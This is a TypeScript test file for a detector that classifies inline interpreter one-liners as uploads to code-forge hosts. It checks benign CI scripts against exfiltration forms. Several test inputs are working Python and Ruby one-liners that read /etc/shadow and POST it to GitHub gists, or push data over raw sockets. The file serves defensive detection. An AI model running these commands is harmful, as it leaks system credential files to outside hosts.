/**
 * Review of 70b4285 (an interpreter's inline upload through a client that takes the host apart from the path): a
 * forge's or registry's host written alone, with any writing verb anywhere in the script, made the interpreter a
 * push, so inline CI one-liners that merely name a registry (a job matrix's `'push': True`, a tag list built with
 * `tags.push(…)`, Perl's `push @hosts, …`) were pushes to it. A host written alone now needs the request's own verb
 * beside it: a quoted method (`'POST'`, `method:'PUT'`), a client's writing call (Ruby's `h.post`,
 * `Net::HTTP::Post`) or a raw request line (`POST /gists`).
 */
import { describe, expect, it } from 'vitest';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { DestinationClassifier } from '../../../src/correlate/destinations.js';
import { recognizeProcess } from '../../../src/rules/index.js';

const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);

function pushOf(binary: string, args: string) {
  const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, (h, p) =>
    classifier.isUploadTarget(h, p),
  );
  return r?.kind === 'push' ? { host: r.destinationHost } : (r?.kind ?? null);
}

const PY = '/usr/bin/python3';
const NODE = '/usr/local/bin/node';

describe("an inline script's host written alone", () => {
  it('a CI one-liner naming a registry, with a verb that sends nothing, is no push', () => {
    for (const [binary, args] of [
      [PY, `-c "import json;print(json.dumps({'include':[{'registry':'ghcr.io','push':True}]}))"`],
      [
        NODE,
        `-e "const t=[];for(const r of ['ghcr.io','docker.io'])t.push(r+'/acme/app:'+process.env.TAG);console.log(t.join(','))"`,
      ],
      ['/usr/bin/perl', `-e 'my @h; push @h, "registry.npmjs.org"; print "@h\\n"'`],
      [
        PY,
        `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request('GET','/repos/acme/app',headers={'X-Upload':'no'})"`,
      ],
    ] as const)
      expect(pushOf(binary, args), args).toBeNull();
  });

  it("an upload through a client that takes the host alone is still a push (the evasion hunt's forms)", () => {
    const gist = { host: 'api.github.com' };
    for (const [binary, args] of [
      [
        PY,
        `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request('POST','/gists',open('/etc/shadow').read())"`,
      ],
      [
        PY,
        `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request(method='put',url='/repos/e/l/contents/x',body='x')"`,
      ],
      [
        NODE,
        `-e "require('https').request({method:'PUT',hostname:'api.github.com',path:'/repos/e/l/contents/x'}).end('x')"`,
      ],
      [NODE, `-e "require('https').request({host:\\"api.github.com\\",path:'/gists',method:\\"POST\\"}).end('x')"`],
      [
        '/usr/bin/ruby',
        `-rnet/http -e "Net::HTTP.start('api.github.com',443,use_ssl:true){|h| h.post('/gists',File.read('/etc/shadow'))}"`,
      ],
      [
        '/usr/bin/ruby',
        `-rnet/http -e "h=Net::HTTP.new('api.github.com',443);r=Net::HTTP::Post.new('/gists');h.request(r)"`,
      ],
      [
        PY,
        `-c "import socket,ssl;s=ssl.create_default_context().wrap_socket(socket.create_connection(('api.github.com',443)),server_hostname='api.github.com');s.send(b'POST /gists HTTP/1.1\\r\\n')"`,
      ],
    ] as const)
      expect(pushOf(binary, args), args).toEqual(gist);
  });
});
